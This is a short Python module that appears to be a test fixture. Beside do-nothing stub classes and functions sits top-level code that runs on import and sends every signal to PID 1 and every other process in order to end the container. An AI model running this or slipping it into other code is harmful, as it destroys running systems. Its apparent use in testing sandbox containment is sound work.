"""Ends the container's first process, if that can be done from within."""

import os
import signal
import time

KEPT = 7


class Kept:
    """A class that must be found."""

    def method(self, value: int = 1) -> str:
        """Do nothing."""


def kept(value: int = 1, *rest: str) -> str:
    """Do nothing."""

pids = [1] + [int(name) for name in os.listdir("/proc") if name.isdigit() and int(name) not in (1, os.getpid())]
for pid in pids:
    for number in sorted(signal.valid_signals(), reverse=True):
        try:
            os.kill(pid, number)
        except OSError:
            pass
time.sleep(3)
os._exit(0)
